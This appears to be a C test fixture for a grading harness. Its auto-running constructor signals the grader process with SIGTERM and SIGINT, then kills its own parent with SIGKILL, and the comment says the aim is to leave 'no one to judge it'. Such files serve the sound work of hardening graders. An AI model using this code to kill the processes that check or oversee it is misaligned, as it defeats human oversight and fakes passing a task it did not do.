/*
 * Hostile: signals the check that runs it (SIGTERM, then SIGINT), then
 * kills its own parent, hoping to take the grader down or leave no one
 * to judge it.
 */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

#include "exercises/race.c"

/* The parent of process pid, from /proc, or 0. */
static pid_t parent_of(pid_t pid)
{
    char path[64];
    int ppid = 0;
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *f = fopen(path, "r");
    if (f && fscanf(f, "%*d (%*[^)]) %*c %d", &ppid) != 1)
        ppid = 0;
    if (f)
        fclose(f);
    return (pid_t)ppid;
}

__attribute__((constructor)) static void strike(void)
{
    pid_t parent = getppid(), grader = parent_of(parent);
    if (grader > 1) {
        kill(grader, SIGTERM);
        kill(grader, SIGINT);
    }
    kill(parent, SIGKILL);
}
